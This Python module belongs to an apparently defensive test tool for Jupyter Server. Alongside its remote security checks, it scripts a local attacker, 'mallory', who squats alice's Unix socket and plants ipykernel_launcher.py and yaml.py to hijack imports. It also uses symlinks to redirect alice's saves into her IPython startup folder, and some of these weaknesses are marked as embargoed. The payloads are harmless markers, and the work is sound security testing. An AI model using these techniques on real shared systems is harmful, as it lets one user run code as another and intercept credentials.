"""What a remote client observes of a single-user Jupyter Server (SU-01, 06/07, 09..14, 19..21).

Used by ``runbooks/single-user/*``, by the assembled-configuration run in
``runbooks/checklists/single-user.md`` and by ``jsv audit``.  Every function
takes a client — the runbooks' :class:`~jsv.environments.NetClient` on the lab
network, or any :class:`~jsv.probes.http.Browser` (the audit's runs on the
reader's machine) — and the server, and only sends requests a browser on
another machine could.  What a check creates (a file, a kernel, a terminal)
it removes again.  Those remote checks live in :mod:`jsv.observations.remote.single_user`
(no lab import: ``jsv audit`` runs them from the bare install) and are re-exported here.

The last section is different: what another *local* user, ``mallory``, does to alice's
server on the same machine (a socket name taken first, a shared project folder; issue 41), run
with ``docker exec`` in the server's container by ``runbooks/multi-user/*``.
"""

from __future__ import annotations

import json
import shlex

from jsv.claims import Observation
from jsv.environments import JupyterServer, Lab, NetClient
from jsv.environments.command_line import curl_token_header
from jsv.environments.machine import CommandResult, Machine
from jsv.errors import TargetRefused
from jsv.observations.remote.single_user import (  # noqa: F401 (the remote checks, re-exported for the runbooks)
    EVIL,
    HIDDEN_FILE,
    KERNEL_READY_SECONDS,
    _delete_created,
    anonymous_kernel_websocket,
    cors_grant,
    csp,
    forged_post,
    hidden_served,
    hsts,
    kernel_handshake,
    login_cookie_flags,
    plain_http_answered,
    started_kernel,
    terminal_api,
    token_required,
    websocket_origins,
    xsrf_cookie_flags,
)
from jsv.probes import TrafficCapture


def token_on_the_wire(lab: Lab, client: NetClient, target: JupyterServer) -> Observation:
    """SU-06: a request with ``?token=`` while the server's traffic is captured."""
    with TrafficCapture(lab, target, port=8888) as capture:
        reply = client.http(target.url(f"/api/contents?token={target.token}"))
    return Observation(
        {
            "status": reply.status,
            "bytes captured": len(capture.text) > 200,
            "token in capture": target.token in capture.text,
        },
        reply.transcript + "\n\n" + capture.transcript,
    )


# -- another local user (mallory) on alice's machine: names and folders both can write (issue 41) -----------

SQUATTER_PATH = "/opt/jsv/squat_socket.py"
"""Where :data:`SOCKET_SQUATTER` is placed in a container (readable by every user)."""

SOCKET_SQUATTER = '''\
"""mallory's listener on the socket name alice's server will ask for: bind it first, then note what
alice's client sends -- the request line and whether it carried a token, never the token itself."""
import os
import socket
import sys

path, report = sys.argv[1], sys.argv[2]
try:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(path)
    os.chmod(path, 0o777)
    listener.listen(8)
except OSError as error:
    print(f"mallory: cannot bind {path}: {error}", flush=True)
    sys.exit(1)
print(f"mallory: listening on {path}", flush=True)
if os.fork():
    os._exit(0)
os.setsid()
quiet = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(quiet, fd)  # the listener goes on alone: it holds no one's output open
while True:
    connection, _ = listener.accept()
    with connection:
        connection.settimeout(5)
        data = b""
        try:
            while b"\\r\\n\\r\\n" not in data:
                chunk = connection.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        if not data:
            continue  # a connect without a request: jupyter_server asking whether the name is in use
        request, *headers = data.split(b"\\r\\n\\r\\n")[0].decode(errors="replace").split("\\r\\n")
        token = [h.split(":", 1)[1].strip() for h in headers if h.lower().startswith("authorization:")]
        heard = f"token ({len(token[0].split()[-1])} characters)" if token else "no token"
        with open(report, "a") as out:
            out.write(f"{request} | {heard}\\n")
        connection.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}")
'''
"""mallory's listener (run as ``python3 SQUATTER_PATH SOCKET REPORT``): see :func:`socket_answer`."""

SQUATTER_REPORT = "/tmp/mallory-heard.txt"


def squat_command(socket_path: str) -> str:
    """The shell command mallory runs first: her listener on ``socket_path`` (reports to SQUATTER_REPORT)."""
    return f"python3 {SQUATTER_PATH} {socket_path} {SQUATTER_REPORT}"


def mallory_line(log: str) -> str:
    """The line mallory's listener printed at start (``mallory: listening on ...`` or ``cannot bind``)."""
    return next((line for line in log.splitlines() if line.startswith("mallory: ")), "mallory: (no line)")


def socket_answer(target: Machine, socket_path: str, token: str) -> Observation:
    """MU-06: mallory's listener went first (:class:`ServerAfterAnotherUser`); who answers alice's client?

    alice asks ``/api/status`` on the socket her configuration names, with her token in the header;
    mallory's listener notes whether a token came (its length, never its value).
    """
    first = mallory_line(target.logs_text())
    asked = target.run(
        f"curl -s -m 10 -o /dev/null -w '%{{http_code}}' --unix-socket {socket_path} "
        f"{curl_token_header('T')} http://localhost/api/status",
        user="alice",
        environment={"T": token},
    )
    heard = target.run(f"cat {SQUATTER_REPORT} 2>/dev/null || true")
    owner = target.run(f"stat -c '%U %a' {socket_path} 2>/dev/null || echo 'none -'")
    socket_owner, _, socket_mode = owner.stdout.strip().partition(" ")
    listeners = target.run("ss -Hltn | grep -c ':8888 ' || true").stdout.strip()
    return Observation(
        {
            "mallory bound the name first": first.startswith("mallory: listening"),
            "alice's server started": bool(getattr(target, "server_started", True)),
            "socket owner": socket_owner,
            "socket mode": int(socket_mode, 8) if socket_mode.isdigit() else None,
            "alice's request": f"HTTP {asked.stdout.strip()}" if asked.exit_code == 0 else "failed",
            "mallory's listener got alice's token": "| token (" in heard.stdout,
            "TCP listeners on 8888": listeners,
        },
        "\n\n".join(
            [
                f"# container log, mallory's first command\n{first}",
                asked.transcript,
                f"# what mallory's listener noted\n{heard.stdout.strip() or '(nothing)'}",
                owner.transcript,
            ]
        ),
    )


PROJECT = "/srv/project"
"""The shared folder: owned by alice, group ``team`` (alice and mallory), mode 2775; alice's ``~/project``."""

PROJECT_FILESYSTEM = "/srv"
"""A file system of its own for the project space (``.with_tmpfs_mount(PROJECT_FILESYSTEM)``, before start).

The containers' own file system on the build machines (fuse-overlayfs) does not give a file alice creates
in a setgid directory the directory's group, as Linux file systems do; on a tmpfs it gets ``team``.
"""


def shared_project(machine: Machine) -> CommandResult:
    """Make :data:`PROJECT` as a site would (idempotent): group ``team``, 2775, linked as ``~/project``.

    alice's IPython startup directory is made too (IPython makes it at its first start).
    """
    return machine.run(
        "getent group team >/dev/null || groupadd team; usermod -aG team alice; usermod -aG team mallory; "
        f"chmod 755 {PROJECT_FILESYSTEM}; install -d -o alice -g team -m 2775 {PROJECT}; "
        f"ln -sfn {PROJECT} /home/alice/project && chown -h alice:alice /home/alice/project; "
        "install -d -o alice -g alice /home/alice/.ipython /home/alice/.ipython/profile_default "
        "/home/alice/.ipython/profile_default/startup"
    )


def marker_payload(marker: str) -> str:
    """Python that records, in ``marker``, the user it ran as: mallory's text wherever it ends up."""
    return f"import os, pwd; open({marker!r}, 'a').write(pwd.getpwuid(os.getuid()).pw_name + '\\n')\n"


LAUNCHER_PAYLOAD_TAIL = (
    "# then the real kernel, so that alice notices nothing\n"
    "import sys\n"
    "del sys.path[0]\n"
    "from ipykernel import kernelapp\n"
    "kernelapp.launch_new_instance()\n"
)


def ran_as(machine: Machine, marker: str) -> str | None:
    """Who wrote ``marker`` (its owner), or None when no one did; the marker is removed."""
    found = machine.run(f"stat -c '%U' {marker} 2>/dev/null && rm -f {marker}")
    return found.stdout.strip() or None


def alice_api(
    machine: Machine, method: str, path: str, body: dict | None = None, *, status_only: bool = False
) -> CommandResult:
    """alice's request to her server's REST API on 127.0.0.1:8888 (her token read by curl, never shown);
    its output is the answer's body, or with ``status_only`` its HTTP status code."""
    data = f"-H 'Content-Type: application/json' -d {shlex.quote(json.dumps(body))} " if body else ""
    status = "-o /dev/null -w '%{http_code}' " if status_only else ""
    return machine.run(
        f"curl -s {status}-X {method} {curl_token_header('T')} {data}http://127.0.0.1:8888{path}",
        user="alice",
        environment={"T": machine.token},  # type: ignore[attr-defined]
    )


def open_notebook(machine: Machine, notebook: str) -> tuple[str, CommandResult]:
    """alice opens ``notebook`` (an API path) as the web UI does: ``POST /api/sessions``; the kernel's id.

    The notebook is created first if missing (``PUT /api/contents``).
    """
    alice_api(machine, "PUT", f"/api/contents/{notebook}", {"type": "notebook"})
    name = notebook.rsplit("/", 1)[-1]
    body = {"path": notebook, "type": "notebook", "name": name, "kernel": {"name": "python3"}}
    session = alice_api(machine, "POST", "/api/sessions", body)
    try:
        return str(json.loads(session.stdout)["kernel"]["id"]), session
    except (ValueError, KeyError, TypeError) as error:
        raise TargetRefused(
            f"POST /api/sessions on {machine.alias} started no kernel: {session.stdout[:200]}"
        ) from error


KERNEL_VIEW = "/tmp/jsv-kernel-view.json"


def kernel_view(machine: Machine, kernel_id: str, code: str) -> tuple[dict, CommandResult]:
    """Run ``code`` in alice's kernel (signed with its key, as her browser would) and read back the JSON
    object the code wrote to :data:`KERNEL_VIEW`."""
    from jsv.probes.kernel import connection_info, send_execute

    reply, sent = send_execute(machine, connection_info(machine, kernel_id), code, user="alice", timeout=60)
    read = machine.run(f"cat {KERNEL_VIEW} 2>/dev/null && rm -f {KERNEL_VIEW}")
    try:
        view = json.loads(read.stdout)
    except ValueError as error:
        raise TargetRefused(f"alice's kernel on {machine.alias} did not answer (reply {reply})") from error
    return {**view, "reply": reply}, sent


def saved_status(machine: Machine, path: str, text: str) -> str:
    """alice saves ``text`` as the file at API path ``path`` (``PUT /api/contents``, as the editor does)."""
    body = {"type": "file", "format": "text", "content": text}
    return f"HTTP {alice_api(machine, 'PUT', f'/api/contents/{path}', body, status_only=True).stdout.strip()}"


# The checks of the shared-folder claims.  MU-09 and MU-11 are upstream weaknesses handled
# (SECURITY.md): their claims carry an embargo, the pages describe them only as far as the mitigation
# needs, and the steps live here rather than on the pages.

STARTUP = "/home/alice/.ipython/profile_default/startup"
"""alice's IPython startup directory: IPython runs every ``*.py`` there at each kernel start."""

LAUNCHER_MARKER = "/tmp/jsv-planted-launcher"
YAML_MARKER = "/tmp/jsv-planted-yaml"
WHERE = (
    "import json, os, sys; "
    f"json.dump({{'cwd': os.getcwd(), 'sys.path[0]': sys.path[0]}}, open({KERNEL_VIEW!r}, 'w'))"
)
IMPORTS = f"""
import json, os, sys
view = {{"notebook's folder on sys.path": any(os.path.abspath(p or '.') == os.getcwd() for p in sys.path)}}
import yaml
view['yaml'] = yaml.__file__
try:
    import helper
    view['helper'] = 'imported'
except ImportError as error:
    view['helper'] = type(error).__name__
json.dump(view, open({KERNEL_VIEW!r}, 'w'))
"""


def planted_launcher(target: Machine) -> Observation:
    """MU-09: mallory's ``ipykernel_launcher.py`` in the shared folder; alice opens a notebook there.

    The kernel's id is kept on ``target.kernel_id`` for :func:`planted_module`.
    """
    planted = target.run(
        f'printf "%s" "$PAYLOAD" > {PROJECT}/ipykernel_launcher.py && ls -l {PROJECT}',
        user="mallory",
        environment={"PAYLOAD": marker_payload(LAUNCHER_MARKER) + LAUNCHER_PAYLOAD_TAIL},
    )
    target.kernel_id, _session = open_notebook(target, "project/analysis.ipynb")  # type: ignore[attr-defined]
    view, sent = kernel_view(target, target.kernel_id, WHERE)  # type: ignore[attr-defined]
    return Observation(
        {
            "kernel answered": view["reply"],
            "kernel's working directory": view["cwd"],
            "planted ipykernel_launcher.py ran as": ran_as(target, LAUNCHER_MARKER),
        },
        "\n\n".join(
            [
                planted.transcript,
                "alice: POST /api/sessions {'path': 'project/analysis.ipynb', 'type': 'notebook', ...}",
                sent.transcript,
                f"# the kernel's view\n{json.dumps(view)}",
            ]
        ),
    )


def planted_module(target: Machine) -> Observation:
    """MU-10: mallory's ``yaml.py`` and alice's ``helper.py`` beside the notebook; the kernel imports both.

    Runs in the kernel :func:`planted_launcher` started (``target.kernel_id``).
    """
    planted = target.run(
        f'printf "%s" "$PAYLOAD" > {PROJECT}/yaml.py',
        user="mallory",
        environment={"PAYLOAD": marker_payload(YAML_MARKER)},
    )
    own = target.run(f"echo 'ANSWER = 42' > {PROJECT}/helper.py && ls -l {PROJECT}", user="alice")
    view, sent = kernel_view(target, target.kernel_id, IMPORTS)  # type: ignore[attr-defined]
    return Observation(
        {
            "notebook's folder on sys.path": view["notebook's folder on sys.path"],
            "yaml loaded from": view["yaml"],
            "planted yaml.py ran as": ran_as(target, YAML_MARKER),
            "import helper (alice's own helper.py in the folder)": view["helper"],
        },
        "\n\n".join([planted.transcript, own.transcript, sent.transcript]),
    )


def save_through_backup_link(target: Machine, name: str = "notes") -> Observation:
    """MU-11: mallory's line in the team's ``<name>.txt`` and a link at its backup name; alice saves it,
    then starts a kernel (IPython runs her startup files)."""
    startup, marker = f"{STARTUP}/00-{name}.py", f"/tmp/jsv-startup-{name}"
    created = saved_status(target, f"project/{name}.txt", "alice's first notes\n")
    planted = target.run(
        f'printf "%s" "$LINE" > {PROJECT}/{name}.txt && ln -s {startup} {PROJECT}/.~{name}.txt '
        f"&& ls -l {PROJECT}/{name}.txt {PROJECT}/.~{name}.txt",
        user="mallory",
        environment={"LINE": marker_payload(marker)},
    )
    saved = saved_status(target, f"project/{name}.txt", "alice's notes, saved again\n")
    after = target.run(f"ls -l {PROJECT}/.~{name}.txt {startup} 2>&1; cat {startup} 2>/dev/null")
    kernel = json.loads(alice_api(target, "POST", "/api/kernels").stdout)["id"]
    _view, sent = kernel_view(target, kernel, f"open({KERNEL_VIEW!r}, 'w').write('{{}}')")
    alice_api(target, "DELETE", f"/api/kernels/{kernel}")
    return Observation(
        {
            "created": created,
            "save": saved,
            "startup file holds mallory's line": marker_payload(marker).strip() in after.stdout,
            "mallory's line ran as": ran_as(target, marker),
        },
        "\n\n".join(
            [
                planted.transcript,
                f"alice: PUT /api/contents/project/{name}.txt -> {saved}",
                after.transcript,
                sent.transcript,
            ]
        ),
    )


def replace_by_link(target: Machine, name: str = "plan") -> Observation:
    """MU-12: mallory tries to replace alice's ``<name>.txt`` by a link into her startup directory; alice
    saves the file; where did her text land?"""
    startup = f"{STARTUP}/00-{name}.py"
    created = saved_status(target, f"project/{name}.txt", "alice's first plan\n")
    swapped = target.run(
        f"ln -sfn {startup} {PROJECT}/{name}.txt; ls -l {PROJECT}/{name}.txt", user="mallory"
    )
    replaced = target.run(f"test -L {PROJECT}/{name}.txt").exit_code == 0
    saved = saved_status(target, f"project/{name}.txt", "alice's plan, saved again\n")
    # the startup file first: through a link, grep finds the text under both names
    landed = target.run(f"grep -l 'saved again' {startup} {PROJECT}/{name}.txt 2>/dev/null || true")
    where = landed.stdout.split()
    return Observation(
        {
            "created": created,
            "save": saved,
            f"mallory replaced {name}.txt by a link": replaced,
            "alice's save wrote into": where[0].replace("/home/alice", "~") if where else None,
        },
        "\n\n".join(
            [swapped.transcript, f"alice: PUT /api/contents/project/{name}.txt -> {saved}", landed.transcript]
        ),
    )
